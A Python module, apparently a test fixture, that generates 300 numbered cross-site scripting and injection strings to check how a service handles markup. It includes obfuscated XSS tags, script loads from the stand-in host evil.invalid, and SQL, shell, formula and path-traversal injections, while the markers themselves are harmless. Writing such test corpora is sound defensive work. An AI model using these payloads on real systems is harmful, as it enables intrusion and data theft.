"""Three hundred texts that would run a script, fetch an address or break a file, if a page took them for markup.

Each calls ``ran(N)`` or fetches ``/xss?N``, with its own number, so that whatever runs says which one it was. They are
made from parts: every part of a family is there in some of them.
"""

from collections.abc import Iterator
from itertools import cycle, product

COUNT = 300
LONGEST = 95  # characters, so that five of them fit where the service takes 500
FOREIGN = "evil.invalid"  # a host that is nowhere

BROKEN = [  # a tag that fails, loads, opens or begins by itself, and the handler that hears of it
    ("img src=x", "onerror"), ("image src=x", "onerror"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("input type=image src=x", "onerror"), ("object data=x:", "onerror"), ("svg", "onload"), ("iframe", "onload"),
    ("body", "onload"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("a tabindex=1 autofocus", "onfocus"), ("details open", "ontoggle"),
    ("link rel=icon href=x:", "onerror"), ("video><source src=x", "onerror"), ("style", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"),
    ("button popovertarget=p>x</button><p popover id=p", "onbeforetoggle"), ("script src=x:", "onerror"),
]  # fmt: skip
QUOTED = ["{on}=ran({n})", '{on}="ran({n})"', "{on}='ran({n})'", "{on}=`ran({n})`", "{on} = ran({n}) x"]
GAPS = [" ", "/", "\t", "\n", "\f", " / "]
CALLS = [  # the same call, spelt so that a filter may not know it
    "ran({n})", "ran`{n}`", "ran&#40;{n}&#41;", "&#114;an({n})", "&#x72;an({n})", "\\u0072an({n})", "top.ran({n})",
    "window['r'+'an']({n})", "self?.ran({n})", "setTimeout(ran,0,{n})", "eval('ra'+'n({n})')", "fetch('/xss?{n}')",
    "Function('ran({n})')()", "document.title=ran({n})", "[{n}].map(ran)", "(0,ran)({n})", "import('/xss?{n}')",
]  # fmt: skip
SCRIPTS = [
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script\n>{c}</script\n>", "<script/x>{c}</script/x>",
    "<script>{c}", "<script type=module>{c}</script>", "<<script>{c}//<</script>", "<svg><script>{c}</script></svg>",
    "<script>/*</script*/{c}</script>", "<math><script>{c}</script>", "<script><!--\n{c}\n--></script>",
    "<script src='data:text/javascript,{c}'></script>", "<script src=//evil.invalid/{n}></script>",
    "<script nomodule src=/xss?{n}></script>", "<svg><script href=/xss?{n} />", "<script async src=/xss?{n}></script>",
]  # fmt: skip
INNER = [
    "<svg onload=ran({n})>",
    "<img src=x onerror=ran({n})>",
    "<script>ran({n})</script>",
    "<a href=javascript:ran({n})>x",
]
LEAVING = [  # out of where the text may stand
    "</textarea>", "</title>", "</script>", "</style>", "-->", "--!>", "]]>", "</noscript>", "</template>", "</select>",
    "</xmp>", "</iframe>", '">', "'>", "`>", '" x="', "' x='", "</mark></div>", "</pre>", "?>", "*/", "</svg>", "\\\">",
    "</button>", "</option></select>", "<!--><", "<![CDATA[", "</noembed></noframes>", "</td></tr></table>", "</h1>",
]  # fmt: skip
ADDRESSES = [
    "javascript:ran({n})", "JaVaScRiPt:ran({n})", " javascript:ran({n})", "java\tscript:ran({n})",
    "java\nscript:ran({n})",
    "javascript&colon;ran({n})", "&#106;avascript:ran({n})", "javascript:/*{n}*/ran({n})", "javascript://%0aran({n})",
    "vbscript:ran({n})", "data:text/html,<script>ran({n})</script>", "data:text/html;base64,PHNjcmlwdD4=#{n}",
    "//evil.invalid/x?{n}", "/\\evil.invalid/x?{n}", "///evil.invalid/x?{n}", "/\t/evil.invalid/x?{n}", "/xss?{n}",
    "https:evil.invalid/x?{n}", "\\\\evil.invalid\\x?{n}", "/%2fevil.invalid/x?{n}", "//evil.invalid@127.0.0.1/x?{n}",
    "blob:null/{n}", "filesystem:x/{n}", "view-source:/xss?{n}",
]  # fmt: skip
TAKES_ADDRESS = [
    "{a}", '<a href="{a}">x</a>', '<iframe src="{a}">', '<form action="{a}"><button>x', '<embed src="{a}">',
    '<object data="{a}">', '<base href="{a}">', '<meta http-equiv=refresh content="0;url={a}">',
    '<link rel=stylesheet href="{a}">', '<svg><a xlink:href="{a}"><text>x', '<button formaction="{a}">x',
    "<style>@import '{a}';</style>", '<img srcset="{a}">', '<video poster="{a}">',
    "<p style=\"background:url('{a}')\">",
    "[x]({a})", '<link rel=preload as=script href="{a}">', '<area href="{a}">', '<svg><use href="{a}"/>',
]  # fmt: skip
RAW = ["style", "title", "textarea", "xmp", "noscript", "iframe", "noembed", "noframes", "script"]
ROOTS = ["<svg>", "<math>", "<math><mtext>", "<svg><desc>", "<svg></p>", "<math><mtext><table><mglyph>", "<template>"]
TURNED = [  # by a parser, and then by another one
    '{r}<{w}><p id="</{w}><img src=x onerror=ran({n})>">', "{r}<{w}><!--</{w}><img src=x onerror=ran({n})>-->",
    '<{w}><a title="</{w}><img src=x onerror=ran({n})>">',
]  # fmt: skip
SPELT = [
    "＜script＞ran({n})＜/script＞", "<ſcript>ran({n})</ſcript>", "\u202e<img src=x onerror=ran({n})>\u202c",
    "\u2066<svg onload=ran({n})>\u2069", "<\u200bscript>ran({n})</script>", "\ufeff<svg onload=ran({n})>",
    "<img\u00a0src=x onerror=ran({n})>", "<img src=x\u2028onerror=ran({n})>", "e\u0301<b onclick=ran({n})>x</b>",
    "&lt;img src=x onerror=ran({n})&gt;", "&amp;lt;svg onload=ran({n})&amp;gt;", "%3Csvg%20onload=ran({n})%3E",
    "%253Csvg onload=ran({n})%253E", "\\u003csvg onload=ran({n})\\u003e", "\\x3csvg onload=ran({n})\\x3e",
    "+ADw-script+AD4-ran({n})+ADw-/script+AD4-", "¼script¾ran({n})¼/script¾", "𝓇an<svg onload=ran({n})>🦊",
    "\u0085<svg onload=ran({n})>", "\x1b[2J<svg onload=ran({n})>\x07",
]  # fmt: skip
CODE = [  # for templates, for scripts and for files with a syntax of their own
    "{{ran({n})}}", "${ran({n})}", "#{ran({n})}", "<%= ran({n}) %>", "[[ran({n})]]", "{%ran({n})%}", "@(ran({n}))",
    "{{constructor.constructor('ran({n})')()}}", "'-ran({n})-'", '"-ran({n})-"', "';ran({n});//", '";ran({n});//',
    "\\';ran({n});//", "`-ran({n})-`", "*/ran({n})/*", '"}]};ran({n});//', '","x":"</script><svg onload=ran({n})>',
    '=HYPERLINK("//evil.invalid/{n}")', "@SUM(1)*{n}", '+1,"{n}', "-2+3;{n}", '"""\n[[principle]]\nid = "x{n}"\n',
    "'''\n[x]\na = {n}", "data: x{n}\n\nevent: x\ndata: ran({n})\n\n", "__proto__ {n}", "constructor {n}",
    "toString {n}",
    "\n\n\n# {n}\n", "%s%n%x{n}", "{0.__class__}{n}", "';DROP TABLE acts;--{n}", "$(touch {n})`id`",
    "../../../etc/x{n}",
]  # fmt: skip
FRAMES = [
    "<iframe srcdoc='{h}'></iframe>", "<template shadowrootmode=open>{h}</template>", "<svg><foreignObject>{h}",
    "<table><td>{h}", "<select><option>{h}", "<noscript>{h}</noscript>", "<p><p/{h}", "<b><i></b>{h}</i>",
    "<form><form>{h}",
]  # fmt: skip


def payloads() -> tuple[str, ...]:
    """All of them, each unlike every other, none with a NUL or a carriage return."""
    families = [handlers(), scripts(), leaving(), addresses(), turned(), spelt(), code(), frames()]
    made: list[str] = []
    for family in cycle(families):
        if len(made) == COUNT:
            return tuple(made)
        text = next((one for template in family if len(one := numbered(template, len(made))) <= LONGEST), None)
        if text is not None:
            made.append(text)
    raise AssertionError("unreachable")


def numbered(template: str, number: int) -> str:
    return template.replace("{n}", str(100 + number))


def handlers() -> Iterator[str]:
    """Tags by handlers, gaps, quotes and spellings: all tags first, the rest turning at their own pace."""
    quotes, gaps, calls = cycle(QUOTED), cycle(GAPS), cycle(CALLS)
    for tag, on in cycle(BROKEN):
        spelling = on if len(tag) % 2 else on.upper()
        code = next(quotes).replace("{on}", spelling).replace("ran({n})", next(calls))
        yield f"<{tag}{next(gaps)}{code}>"


def scripts() -> Iterator[str]:
    for call, script in product(CALLS, SCRIPTS):
        yield script.replace("{c}", call)


def leaving() -> Iterator[str]:
    inner = cycle(INNER)
    for out in cycle(LEAVING):
        yield out + next(inner)


def addresses() -> Iterator[str]:
    holders = cycle(TAKES_ADDRESS)
    for address in cycle(ADDRESSES):
        yield next(holders).replace("{a}", address)


def turned() -> Iterator[str]:
    for shape, raw, root in product(TURNED, RAW, ROOTS):
        yield shape.replace("{r}", root).replace("{w}", raw)


def spelt() -> Iterator[str]:
    yield from cycle(SPELT)


def code() -> Iterator[str]:
    yield from cycle(CODE)


def frames() -> Iterator[str]:
    for outer, html in cycle(product(FRAMES, INNER)):
        yield outer.replace("{h}", html)


def grouped(texts: tuple[str, ...], longest: int) -> tuple[str, ...]:
    """The texts joined by newlines, as many as fit in ``longest`` characters at a time."""
    groups: list[list[str]] = [[]]
    for text in texts:
        if groups[-1] and len("\n".join([*groups[-1], text])) > longest:
            groups.append([])
        groups[-1].append(text)
    return tuple("\n".join(group) for group in groups)


if __name__ == "__main__":
    print(*payloads(), sep="\n")
